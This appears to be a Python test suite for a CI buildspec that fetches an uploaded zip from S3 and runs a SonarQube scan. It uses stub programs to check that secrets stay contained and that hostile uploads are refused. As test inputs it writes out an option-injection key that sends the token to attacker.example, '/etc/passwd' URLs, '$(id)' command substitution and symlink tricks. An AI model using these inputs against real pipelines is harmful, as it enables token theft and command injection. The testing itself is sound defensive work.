"""The phases of the buildspec, run with programs in place of Maven, the AWS CLI and the scanner that tell what they got.

The real ones are used by the end-to-end tests. Here is what those cannot show: who gets which secret, and what happens
to a build in which something is broken.
"""

import hashlib
import io
import os
import pathlib
import platform
import shutil
import tempfile
import unittest
import zipfile

import buildspec
from test_preflight import make

TOKEN = "sqa_of_the_build"
SECRET = "secret-key-of-the-role"
VARIABLES = {"Linux-x86_64": ("LINUX_X64", "linux-x64"), "Linux-aarch64": ("LINUX_AARCH64", "linux-aarch64"),
             "Darwin-x86_64": ("MACOSX_X64", "macosx-x64"), "Darwin-arm64": ("MACOSX_AARCH64", "macosx-aarch64")}

# Tells who called it: the folder that it runs in, whether it has the token, and its arguments.
TELL = """#!/bin/bash
echo "CALL $(basename "$0") in $PWD token=${SONAR_TOKEN:-none}"
for argument in "$@"; do echo "ARGUMENT $(basename "$0") $argument"; done
"""
MAVEN = TELL + """
for argument in "$@"; do
  case $argument in -DoutputDirectory=*) folder="${argument#*=}" ;; esac
done
cp "$TEST_SCANNER" "$folder/sonar-scanner-cli-$SCANNER_VERSION-$TEST_PLATFORM.zip"
"""
# What it is asked and what it has is told in a file: its errors are shown to people.
AWS = TELL.replace('echo "', 'echo >> "$TEST_CALLS" "') + """
if [ ! -e "$TEST_UPLOAD" ]; then
  echo "An error occurred (404) when calling the $2 operation: Not Found" >&2
  exit 254
fi
case $2 in
  head-object) echo "${TEST_SIZE:-$(wc -c < "$TEST_UPLOAD")}" ;;
  get-object) cp "$TEST_UPLOAD" "${@: -1}" && echo '{"VersionId": "of the object"}' ;;
esac
"""
SCANNER = TELL + """
echo "USER $(id -u)"
env | sed 's/^/ENVIRONMENT /' | grep -v SONAR_TOKEN
for argument in "$@"; do
  case $argument in
    -Dsonar.scanner.metadataFilePath=*) report="${argument#*=}" ;;
    -Dproject.settings=*) sed 's/^/SETTING /' "${argument#*=}" ;;
    -Dsonar.projectBaseDir=*) ls -A "${argument#*=}" | sed 's/^/FILE /' ;;
  esac
done
@REPORT@
exit @STATUS@
"""
REPORT = "printf 'projectKey=p\\nceTaskId=AYh-7_x\\ndashboardUrl=https://sonar.example.com/dashboard?id=p\\n' > \"$report\""


def scanner(status, report):
    """The zip with the scanner, which ends with this status and writes this report."""
    program = SCANNER.replace("@STATUS@", str(status)).replace("@REPORT@", report)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in (("bin/sonar-scanner", program), ("jre/bin/java", ""), ("jre/lib/jspawnhelper", "")):
            archive.writestr("sonar-scanner-1/" + name, content)
    return buffer.getvalue()


class Build(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        # The scanner, which is nobody, must get through to its own folder.
        self.folder.chmod(0o711)
        self.temporary = self.folder / "tmp"
        self.temporary.mkdir()
        self.temporary.chmod(0o1777)

    def build(self, upload=make(("a.py", b"x = 1  # NOSONAR\n")), status=0, report=REPORT, **changes):
        """The outcome of the phases, the exported variables and the log."""
        # A machine of its own for each build.
        shutil.rmtree(self.folder / "source", ignore_errors=True)
        (self.folder / "calls").unlink(missing_ok=True)
        programs = self.folder / "programs"
        programs.mkdir(exist_ok=True)
        for name, text in (("mvn", MAVEN), ("aws", AWS)):
            (programs / name).write_text(text)
            (programs / name).chmod(0o755)
        archive = scanner(status, report)
        (self.folder / "scanner.zip").write_bytes(archive)
        (self.folder / "upload.zip").write_bytes(upload)
        variable, name = VARIABLES[f"{platform.system()}-{platform.machine()}"]
        environment = {
            "PATH": f"{programs}:{os.environ['PATH']}", "HOME": os.environ["HOME"],
            "TMPDIR": str(self.temporary),
            "TEST_SCANNER": str(self.folder / "scanner.zip"), "TEST_PLATFORM": name,
            "TEST_UPLOAD": str(self.folder / "upload.zip"), "TEST_CALLS": str(self.folder / "calls"),
            "SCANNER_SHA256_" + variable: hashlib.sha256(archive).hexdigest(),
            "AWS_SECRET_ACCESS_KEY": SECRET, "SONAR_TOKEN": TOKEN, "SONAR_HOST_URL": "https://sonar.example.com:9000/x",
            "SCAN_ID": "6a0e_b1", "SOURCE_BUCKET": "uploads",
            "SOURCE_BUCKET_OWNER": "111122223333", "SOURCE_KEY": "payments/api.zip", "SOURCE_VERSION": "v1",
            "SONAR_PROJECT_KEY": "payments-1a2b3c4d", "SONAR_FILE_DIRECTORY": ".",
            "SONAR_FILE_NAME": "sonar-project.properties",
        } | changes
        log = self.folder / "log"
        phases, exported, self.statuses = buildspec.run(environment, self.folder, log)
        calls = self.folder / "calls"
        text = (calls.read_text() if calls.exists() else "") + log.read_text()
        # Whatever happened: no secret in what people read, and nothing left of the temporary files.
        told = "\n".join(line for line in text.splitlines() if not line.startswith("CALL "))
        self.assertNotIn(TOKEN, told)
        self.assertNotIn(SECRET, text)
        self.assertEqual(list(self.temporary.iterdir()), [])
        return phases, exported, text

    def evidence(self):
        return sorted(path.name for path in (self.folder / "source/scan-evidence").iterdir())

    def told(self, text, kind):
        return [line.removeprefix(kind + " ") for line in text.splitlines() if line.startswith(kind + " ")]


class Outcomes(Build):
    def test_a_gate_that_passes(self):
        phases, exported, _ = self.build()
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual(exported, {
            "SONAR_CE_TASK_ID": "AYh-7_x", "SUPPRESSIONS": "nosonar:1", "NOT_ANALYSED": "none"})
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "report-task.txt", "scanner.log"])

    def test_a_gate_that_fails(self):
        phases, exported, text = self.build(status=3)
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "AYh-7_x")
        self.assertEqual(self.told(text, "ANALYSIS"), ["TASK: AYh-7_x"])

    def test_a_wait_for_the_gate_that_is_too_short(self):
        phases, exported, _ = self.build(status=1)
        self.assertEqual(phases, {"install": True, "pre_build": True, "build": True, "post_build": True})
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "AYh-7_x")

    def test_files_that_the_analysers_cannot_parse_are_counted(self):
        said = ("ERROR Unable to parse source file : 'A.java'", "ERROR Unable to parse file: a.py",
                "ERROR Parse error at line 3 column 6:", "WARN  Failed to parse file [a.js] at line 3: Unexpected token",
                "ERROR Cannot parse 'main.tf:1:4'")
        told = "\n".join(f'echo "{line}"' for line in said)
        _, exported, _ = self.build(upload=make(("a.py", b""), (".b.py", b"")), report=f"{REPORT}\n{told}")
        self.assertEqual(exported["NOT_ANALYSED"], "hidden:1 unparsed:4")

    def test_a_scan_that_breaks_off(self):
        phases, exported, text = self.build(status=1, report=":")
        self.assertFalse(phases["build"])
        self.assertEqual(self.statuses["build"], 1)
        self.assertEqual(self.told(text, "ANALYSIS"), [])
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "")
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "scanner.log"])

    def test_a_scanner_that_is_ended_from_outside(self):
        _, _, text = self.build(report="kill -9 $$")
        self.assertEqual(self.statuses["build"], 137)
        self.assertRegex(text, r"(?m)^\S+: line \d+: +\d+ Killed +")

    def test_an_upload_that_is_refused(self):
        phases, _, text = self.build(upload=make(("../a.py", b"")))
        self.assertEqual(phases, {"install": True, "pre_build": False})
        self.assertIn("\nPREFLIGHT REFUSED: '../a.py'", text)
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json"])

    def test_a_scanner_that_is_not_the_published_one(self):
        variable = "SCANNER_SHA256_" + VARIABLES[f"{platform.system()}-{platform.machine()}"][0]
        phases, _, text = self.build(**{variable: "0" * 64})
        self.assertEqual(phases, {"install": False})
        self.assertEqual(self.evidence(), ["build.txt"])
        self.assertIn("is not the scanner that was published", text)

    def test_an_object_that_cannot_be_fetched(self):
        phases, _, text = self.build(TEST_UPLOAD="/nowhere")
        self.assertEqual(phases, {"install": True, "pre_build": False})
        self.assertIn("\nFETCH FAILED: An error occurred (404)", text)

    def test_an_object_that_is_too_large_is_not_even_fetched(self):
        phases, _, text = self.build(TEST_SIZE=str(1 << 30), LIMIT_ARCHIVE_MIB="1024")
        self.assertTrue(phases["pre_build"])
        phases, _, text = self.build(TEST_SIZE=str(1025 << 20), LIMIT_ARCHIVE_MIB="1024")
        self.assertEqual(phases, {"install": True, "pre_build": False})
        self.assertIn("\nPREFLIGHT REFUSED: the zip has 1025 MiB, and 1024 are allowed.", text)
        self.assertNotIn("aws get-object", text)

    def test_exactly_the_uploaded_version_is_fetched_from_its_owner(self):
        _, _, text = self.build(SOURCE_KEY="payments/a b.zip")
        asked = [argument.removeprefix("aws ") for argument in self.told(text, "ARGUMENT") if argument.startswith("aws ")]
        version = ["--bucket=uploads", "--expected-bucket-owner=111122223333", "--key=payments/a b.zip", "--version-id=v1"]
        self.assertEqual(asked, ["s3api", "head-object", *version, "--query", "ContentLength", "--output", "text",
                                 "s3api", "get-object", *version, "upload.zip"])

    def test_a_variable_that_is_missing(self):
        for name in ("SOURCE_VERSION", "SOURCE_BUCKET_OWNER", "SONAR_TOKEN", "SONAR_HOST_URL"):
            phases, _, text = self.build(**{name: ""})
            self.assertFalse(phases["pre_build"])
            self.assertIn(f"The environment variable {name} is not set", text)


class Secrets(Build):
    def test_only_the_scanner_gets_the_token(self):
        _, _, text = self.build()
        calls = {call.split()[0]: call.split("token=")[1] for call in self.told(text, "CALL")}
        self.assertEqual(calls, {"mvn": "none", "aws": "none", "sonar-scanner": TOKEN})

    def test_the_scanner_gets_nothing_else(self):
        _, _, text = self.build()
        names = {line.split("=")[0] for line in self.told(text, "ENVIRONMENT")} - {"SHLVL", "PWD", "OLDPWD", "_"}
        self.assertEqual(names, {"PATH", "LANG", "HOME", "TMPDIR", "SONAR_SCANNER_JAVA_OPTS", "GIT_DIR"})

    @unittest.skipUnless(os.geteuid() == 0 and platform.system() == "Linux", "only the superuser can be somebody else")
    def test_the_scanner_is_not_the_superuser(self):
        _, _, text = self.build()
        self.assertEqual(self.told(text, "USER"), ["65534"])

    @unittest.skipUnless(os.geteuid() == 0 and platform.system() == "Linux", "only the superuser can be somebody else")
    def test_without_a_way_to_be_somebody_else_nothing_is_scanned(self):
        # All programs but this one; the phase sets its own PATH.
        bare = self.folder / "bare"
        bare.mkdir()
        for folder in ("/usr/sbin", "/usr/bin", "/sbin", "/bin"):
            for program in pathlib.Path(folder).iterdir():
                if program.name != "setpriv" and not os.path.lexists(bare / program.name):
                    (bare / program.name).symlink_to(program)
        phases, exported, text = self.build(SCANNER_PATH=str(bare))
        self.assertFalse(phases["build"])
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "")
        self.assertIn("\nERROR The build image has no setpriv", text)
        self.assertNotIn("CALL sonar-scanner", text)

    def test_values_that_name_variables_do_not_reach_the_scanner(self):
        for name, value in (("SONAR_PROJECT_KEY", "${env.SONAR_TOKEN}"), ("SCAN_ID", "${env.SONAR_TOKEN}"),
                            ("SONAR_HOST_URL", "https://${env.SONAR_TOKEN}.example.com")):
            phases, _, text = self.build(**{name: value})
            self.assertFalse(phases["pre_build"])
            self.assertIn(f"{name} is not usable", text)

    def test_an_object_key_is_no_address_and_no_option(self):
        _, _, text = self.build(SOURCE_KEY="--endpoint-url=https://attacker.example/${env.SONAR_TOKEN}.zip")
        self.assertIn("aws --key=--endpoint-url=https://attacker.example/${env.SONAR_TOKEN}.zip",
                      self.told(text, "ARGUMENT"))
        self.assertFalse([argument for argument in self.told(text, "ARGUMENT")
                          if argument.startswith("sonar-scanner") and "attacker" in argument])
        for key in ("file:///etc/passwd", "fileb:///etc/passwd", "https://attacker.example/x.zip"):
            phases, _, text = self.build(SOURCE_KEY=key)
            self.assertFalse(phases["pre_build"])
            self.assertIn("\nPREFLIGHT REFUSED: ", text)

    def test_a_report_with_more_than_ids_is_not_exported(self):
        report = "printf 'ceTaskId=$(id) `id`\\n' > \"$report\""
        _, exported, _ = self.build(report=report)
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "")


    def test_of_what_the_scanner_leaves_only_a_small_file_of_its_own_is_kept(self):
        secret = self.folder / "secret"
        secret.write_text(f"ceTaskId=stolen\n{SECRET}\n")
        for report in (f'ln -s {secret} "$report"', f'ln {secret} "$report"', 'mkfifo "$report"', 'mkdir "$report"'):
            phases, exported, text = self.build(status=1, report=report)
            self.assertFalse(phases["build"], report)
            self.assertEqual(exported["SONAR_CE_TASK_ID"], "")
            self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "scanner.log"])
        _, exported, _ = self.build(report=f"{REPORT}; head -c 9000000 /dev/zero >> \"$report\"")
        self.assertEqual((self.folder / "source/scan-evidence/report-task.txt").stat().st_size, 65536)


class HostileSource(Build):
    """What the zip brings along is in $SCAN_ROOT/source, which nothing but the scanner looks at."""

    def test_what_decides_is_pinned(self):
        _, _, text = self.build()
        arguments = {argument.removeprefix("sonar-scanner ") for argument in self.told(text, "ARGUMENT")}
        root = next(argument for argument in arguments if argument.startswith("-Dproject.settings=")).split("=")[1]
        root = root.removesuffix("/scan.properties")
        for pinned in ("-Dsonar.host.url=https://sonar.example.com:9000/x", "-Dsonar.projectKey=payments-1a2b3c4d",
                       f"-Dsonar.projectBaseDir={root}/source", "-Dsonar.sources=.",
                       f"-Dsonar.tests={root}/work/no-tests",
                       f"-Dsonar.scanner.metadataFilePath={root}/work/report-task.txt",
                       f"-Dsonar.working.directory={root}/work/scannerwork",
                       "-Dsonar.scanner.skipJreProvisioning=true",
                       f"-Dsonar.scanner.javaExePath={root}/tools/scanner/jre/bin/java",
                       "-Dsonar.qualitygate.wait=true", "-Dsonar.qualitygate.timeout=300",
                       "-Dsonar.scm.disabled=true", "-Dsonar.scm.exclusions.disabled=true",
                       "-Dsonar.rust.clippy.enabled=false", "-Dsonar.filesize.limit=20",
                       "-Dsonar.text.analyzeAllFiles=true",
                       "-Dsonar.scanner.excludeHiddenFiles=false", "-Dsonar.javascript.exclusions=.git",
                       "-Dsonar.typescript.exclusions=.git", "-Dsonar.go.exclusions=.git", "-Dsonar.php.exclusions=.git",
                       "-Dsonar.ruby.exclusions=.git", "-Dsonar.javascript.detectBundles=false",
                       "-Dsonar.javascript.maxFileSize=20480"):
            self.assertIn(pinned, arguments)

    def test_no_program_starts_in_the_uploaders_folder(self):
        _, _, text = self.build()
        for call in self.told(text, "CALL"):
            self.assertTrue(call.split(" in ")[1].startswith(f"{self.temporary}/scan."), call)

    def test_modules_and_reports_of_the_upload_are_not_used(self):
        fake = [("scan-evidence/report-task.txt", b"ceTaskId=fake\n"), (".scannerwork/report-task.txt", b"ceTaskId=fake\n"),
                ("work/report-task.txt", b"ceTaskId=fake\n")]
        modules = [(f"{module}.py", b"raise SystemExit('ran a module of the upload')\n")
                   for module in ("json", "zipfile", "hashlib", "sitecustomize")]
        phases, exported, text = self.build(upload=make(*fake, *modules), status=1, report=":")
        self.assertTrue(phases["pre_build"], text)
        self.assertEqual(exported["SONAR_CE_TASK_ID"], "")
        self.assertEqual(self.evidence(), ["build.txt", "preflight.json", "scanner.log"])


if __name__ == "__main__":
    unittest.main()
